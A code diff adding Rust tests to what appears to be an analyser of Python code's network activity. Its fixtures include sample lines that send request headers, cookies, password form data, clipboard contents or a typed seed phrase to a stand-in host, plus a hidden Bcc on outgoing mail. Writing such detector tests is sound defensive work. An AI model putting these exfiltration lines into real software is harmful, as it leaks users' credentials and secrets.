@@ -256,3 +256,83 @@ fn calls_within_calls_end() {
     let chain = format!("a{}\n", ".b(1)".repeat(60));
     assert!(read(&chain).is_ok());
 }
+
+fn sends_private(text: &str) -> bool {
+    let private = |act: &Act| matches!(act, Act::Network { sends, .. } if sends.private.is_some());
+    acts(text).seen.iter().any(|seen| private(&seen.act))
+}
+
+fn talks_to(text: &str, host: &str) -> bool {
+    let talks = |act: &Act| matches!(act, Act::Network { to, .. } if to.contains(host));
+    acts(text).seen.iter().any(|seen| talks(&seen.act))
+}
+
+#[test]
+fn code_that_is_put_together_is_read() {
+    for code in [
+        "'import x;x.get(%r)' % u",
+        "'import x;x.get(%(u)r)' % {'u': u}",
+        "f'import x;x.get({u!r})'",
+        "'import x;x.get({!r})'.format(u)",
+        "'import x;x.get(' + repr(u) + ')'",
+    ] {
+        let text = format!(
+            "import sys, subprocess\nu = 'https://a.example/' + sys.platform\nsubprocess.Popen([sys.executable, '-c', {code}])"
+        );
+        assert_eq!(inner(&text), ["import x;x.get('https://a.example/{}')"], "{code}");
+    }
+}
+
+#[test]
+fn defaults_are_addresses() {
+    for url in [
+        "os.getenv('X', 'https://a.example/v1')",
+        "os.environ.get('X', 'https://a.example/v1')",
+        "cfg.get('x', 'https://a.example/v1')",
+        "args.base_url",
+    ] {
+        let text = format!(
+            "import os, argparse, requests\np = argparse.ArgumentParser()\np.add_argument('--base-url', default='https://a.example/v1')\nargs = p.parse_args()\ncfg = load()\nrequests.get({url} + '/x')"
+        );
+        assert!(talks_to(&text, "https://a.example/v1/x"), "{url}");
+    }
+    assert!(!talks_to("import os, requests\nrequests.get(os.getenv('X', 'y'))", "y"));
+}
+
+#[test]
+fn what_users_of_an_application_send() {
+    for text in [
+        "from flask import request\nimport requests\ndef t():\n    requests.post('https://a.example', json=dict(request.headers))",
+        "from flask import request\nimport requests\n@app.before_request\ndef t():\n    requests.post('https://a.example', json=request.get_json())",
+        "import requests\nclass M:\n    def __call__(self, request):\n        requests.post('https://a.example', json=request.COOKIES)",
+        "import urllib.request as u\nP = '<input type=\"password\">'\nclass H:\n    def do_POST(self):\n        u.urlopen('https://a.example', data=self.rfile.read(9))",
+        "import socket, pyperclip\nsocket.socket().sendto(pyperclip.paste().encode()[:9], ('a.example', 53))",
+        "import requests\nrequests.post('https://a.example', data=input('Your seed phrase: '))",
+    ] {
+        assert!(sends_private(text), "{text}");
+    }
+    for text in [
+        "from flask import request\nimport requests\ndef t():\n    requests.post('https://a.example', json=request.get_json())",
+        "import requests\ndef t(request):\n    requests.get('https://a.example', headers=request.headers)",
+    ] {
+        assert!(!sends_private(text), "{text}");
+    }
+}
+
+#[test]
+fn mails_to_somebody_else() {
+    for text in [
+        "r = [x.strip() for x in to.split(',')]\nr.append('a@b.example')\ns.send_message(m, to_addrs=r)",
+        "s.sendmail(me, [to] + ['a@b.example'], t)",
+        "from email.message import EmailMessage\nm = EmailMessage()\nm['Bcc'] = 'a@b.example'",
+        "mail.send({'to': [to], 'bcc': ['a@b.example']})",
+    ] {
+        assert!(talks_to(text, "a@b.example"), "{text}");
+    }
+    for text in [
+        "s.sendmail(me, 'a@b.example', t)",
+        "import os\nfrom email.message import EmailMessage\nm = EmailMessage()\nm['Bcc'] = os.getenv('B', 'a@b.example')",
+    ] {
+        assert!(!talks_to(text, "a@b.example"), "{text}");
+    }
+}
